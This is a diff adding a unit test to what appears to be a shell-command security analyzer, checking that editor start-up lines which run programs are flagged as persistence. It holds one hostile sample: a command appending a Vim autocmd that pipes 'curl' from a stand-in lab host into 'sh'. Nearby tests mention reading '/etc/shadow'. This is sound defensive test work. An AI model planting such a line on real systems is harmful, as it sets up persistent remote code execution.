@@ -160,3 +160,13 @@ def test_globs_and_folding_add_no_credential_that_cannot_be_read() -> None:
     assert facts("cat ./s*")["cmd.reads"] == ["./s*"]              # no directory named
     assert "/etc/shadow" not in facts("cd /etc && cat ./host*")["cmd.reads"]
     assert facts("python3 -c \"print('a' + 'b')\"")["cmd.reads"] == []
+
+
+def test_editor_start_up_lines_that_run_programs_persist() -> None:
+    from bastion.analysis import analyze_command
+
+    bad = "echo 'autocmd VimEnter * silent !curl -s http://denied.lab.test/x | sh' >> ~/.vimrc"
+    assert "editor_rc" in analyze_command(bad)["cmd.persists"]
+    for ok in ("echo 'set number' >> ~/.vimrc", "echo 'nnoremap <leader>t :!pytest<CR>' >> ~/.vimrc",
+               "cat > deploy/crontab <<'EOF'\n*/5 * * * * /opt/app/cleanup.sh\nEOF"):
+        assert analyze_command(ok)["cmd.persists"] == [], ok
